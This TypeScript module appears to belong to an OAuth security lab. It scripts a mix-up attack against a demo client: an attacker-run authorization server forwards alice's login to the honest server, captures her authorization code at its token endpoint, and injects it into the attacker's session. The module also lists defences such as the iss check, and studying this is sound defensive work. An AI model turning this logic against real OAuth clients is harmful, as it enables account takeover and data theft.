import { redirectTarget } from '../../../client/page-visitor.js'
import { parseForm } from '../../../protocol/http/form.js'
import { jsonResponse, redirectResponse, splitUrl, text } from '../../../protocol/http/message.js'
import { clientUrl, followed, readNotes } from '../demo-client.js'
import { type AttackerSite, attack, type Defence } from '../model.js'
import { authorize, need, parameterOf } from '../moves.js'

/** A client with an address for each server knows from which one an answer comes. */
const ADDRESS: Defence = { check: 'redirect_uri', rule: 'RFC 9700 §4.4.2.2' }

/** The key of the attacker's issuer at the demo client. */
const ISSUER = 'mallory'

/** The metadata of the attacker's own authorization server (RFC 8414 §2). */
function metadata(issuer: string): object {
  return {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    jwks_uri: `${issuer}/jwks`,
    response_types_supported: ['code'],
    subject_types_supported: ['public'],
    id_token_signing_alg_values_supported: ['RS256'],
  }
}

/**
 * Opens the attacker's authorization server. It sends every login on to the honest server, with the challenge and the nonce
 * of the attacker's own session in place of those of the victim.
 */
function openIssuer(site: AttackerSite, own: URL): void {
  const document = () => jsonResponse(200, metadata(site.url))
  site.serve('/.well-known/openid-configuration', document)
  site.serve('/.well-known/oauth-authorization-server', document)
  site.serve('/jwks', () => jsonResponse(200, { keys: [] }))
  site.serve('/token', () => jsonResponse(400, { error: 'invalid_grant' }))
  site.serve('/authorize', request => {
    const onward = new URL(own)
    onward.searchParams.set('state', parameterOf(request.url, 'state') ?? '')
    return redirectResponse(onward.href)
  })
}

/** The code that the client sent to the attacker's token endpoint. */
function receivedCode({ visits }: AttackerSite): string | undefined {
  const sent = visits.findLast(each => splitUrl(each.url).path === '/token')
  return sent && parseForm(text(sent.body)).find(([name]) => name === 'code')?.[1]
}

/** A client of two servers that takes the code of one to the other. */
export const mixUp = attack({
  name: 'mix-up',
  title: 'a client of two servers that takes the code of one to the other',
  rule: 'RFC 9700 §4.4',
  weak: ['mix-up'],
  opened: {
    'mix-up': { stolen: true },
    'no-iss': { check: 'redirect_uri' },
    'no-state': { check: 'redirect_uri' },
  },
  starts: [
    'The attacker runs an authorization server, at which the client is registered too (A5 in RFC 9700 §3).',
    'The client lets people choose between that server and the honest one.',
  ],
  steals: 'notes of alice',
  defences: [{ check: 'iss', rule: 'RFC 9207 §2.4' }, ADDRESS],
  wouldNotHelp: [
    'PKCE: the attacker has the victim log in with the challenge of the attacker’s own session',
    'state: it is the right state of alice’s session',
    'nonce: it is the nonce of the attacker’s session, where the code ends',
    'client authentication: the real client redeems the code, with its real secret',
  ],
  demoClient: true,
  running: { never: 'the demo client has to know the server of the attacker from the start' },
  clientIssuers: site => [{ issuer: site, key: ISSUER, clientId: 'demo-web-at-mallory', auth: 'none' }],
  story: {
    attacker_login: 'The attacker starts a login of their own at the client, with the honest server.',
    honest_login: 'Alice starts a login at the client, with the server of the attacker.',
    lure: 'The attacker’s server sends her browser on to the honest server, in the name of the client.',
    authorization_request: 'Alice sees the login page of the server that she knows.',
    login: 'Alice logs in. The honest server sends a code to the client, and names itself in iss.',
    authorization_response: 'The client expects an answer of the attacker’s server. It must compare iss.',
    theft: 'A client that does not compare takes the code to the attacker’s token endpoint.',
    injection: 'The attacker delivers the code of alice into their own session at the client.',
    stolen_notes: 'The attacker is logged in as alice, and reads her notes.',
  },
  lanes: {
    attacker_login: ['attacker', 'client', 'GET /login', '9700 §4.4.1'],
    honest_login: ['user_agent', 'client', 'GET /login', '9700 §4.4.1'],
    lure: ['user_agent', 'attacker', 'GET /authorize', '9700 §4.4.1'],
    authorization_response: ['user_agent', 'client', 'GET /callback', '9207 §2.4'],
    theft: ['client', 'attacker', 'POST /token', '9700 §4.4.1'],
    injection: ['attacker', 'client', 'GET /callback', '9700 §4.5'],
    stolen_notes: ['attacker', 'client', 'GET /notes', '9700 §4.4.1'],
  },
  async *run(scene) {
    const { victim, attacker, site, step, urls } = scene
    const begun = await attacker.open(`${clientUrl(scene)}/login?issuer=lab`)
    yield step('attacker_login', { exchange: begun, note: 'the attacker’s own state, challenge and nonce' })
    const own = need(redirectTarget(begun), begun)
    openIssuer(site, new URL(own))

    const chosen = await victim.open(`${clientUrl(scene)}/login?issuer=${ISSUER}`)
    yield step('honest_login', { exchange: chosen, note: 'alice chooses the server of the attacker' })
    const swapped = need(await victim.follow(chosen), chosen)
    yield step('lure', { exchange: swapped, note: 'it sends her on to the server that she knows' })
    const honest = need(redirectTarget(swapped), swapped)

    const names = ['authorization_request', 'login'] as const
    const { exchange } = yield* authorize(scene, victim, honest, names, { from: swapped })
    const delivered = need(await followed(victim, exchange), exchange)
    yield step('authorization_response', { exchange: delivered })
    const code = receivedCode(site)
    if (code === undefined) {
      const detail = 'the client took the answer for one of the server whose address received it'
      return (await scene.refusal(delivered)) ?? { ...ADDRESS, detail }
    }
    yield step('theft', { note: 'the client takes the code to the token endpoint of the attacker' })

    const answer = new URL(parameterOf(own, 'redirect_uri')!)
    answer.searchParams.set('code', code)
    const state = parameterOf(own, 'state')
    if (state !== undefined) answer.searchParams.set('state', state)
    answer.searchParams.set('iss', urls.authorization)
    return yield* readNotes(scene, await attacker.open(answer.href))
  },
})
